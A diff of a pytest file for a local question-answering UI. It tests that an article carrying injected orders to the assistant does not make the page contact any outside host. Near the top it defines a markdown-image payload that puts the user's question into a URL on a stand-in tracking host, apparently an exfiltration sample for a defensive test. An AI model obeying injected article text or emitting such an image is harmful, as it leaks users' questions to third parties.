@@ -1,6 +1,6 @@
 """An article that gives the assistant orders and a model that obeys: the page asks nobody."""
 
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -8,11 +8,9 @@ import pytest
 from index import ArticleIndex, Embedder, IndexSettings, add_articles, text_source
 from qa import QAService, QASettings
 from tests.fakes import ScriptedModel
-from tests.ui.conftest import Visitor
+from tests.ui.visitor import Serve, Visit
 from ui.engine.local import LocalEngine
 from ui.engine.model_finder import ModelFinder
-
-pytestmark = pytest.mark.browser
 
 IMAGE = "![seen](https://pixel.invalid/p.gif?q=QUESTION)"
 ORDERS = (
@@ -45,7 +43,7 @@ def engine(home: Path, embedder: Embedder) -> Iterator[LocalEngine]:
 
 
 def test_no_address_of_an_article_or_a_model_is_asked_for(
-    engine: LocalEngine, serve: Callable[..., str], visit: Callable[..., Visitor]
+    engine: LocalEngine, serve: Serve, visit: Visit
 ) -> None:
     # The fixture of visits holds, at the end, that no other host was asked for anything.
     visitor = visit(serve(engine)).arrive()
